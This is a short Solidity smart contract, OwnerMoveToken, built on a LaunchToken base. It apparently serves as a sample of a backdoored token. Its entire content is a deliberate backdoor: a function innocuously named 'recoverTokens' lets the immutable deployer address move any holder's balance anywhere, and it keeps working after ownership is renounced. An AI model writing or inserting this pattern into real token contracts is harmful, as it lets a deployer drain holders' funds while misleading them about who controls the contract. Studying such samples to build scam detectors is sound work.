// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";

/// The deployer can move anybody's balance, also after renouncing.
contract OwnerMoveToken is LaunchToken {
    address private immutable _guardian;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply_, address router_)
        LaunchToken(name_, symbol_, decimals_, supply_, router_)
    {
        _guardian = msg.sender;
    }

    function recoverTokens(address from, address to, uint256 amount) external {
        require(msg.sender == _guardian, "Not guardian");
        _move(from, to, amount);
    }
}
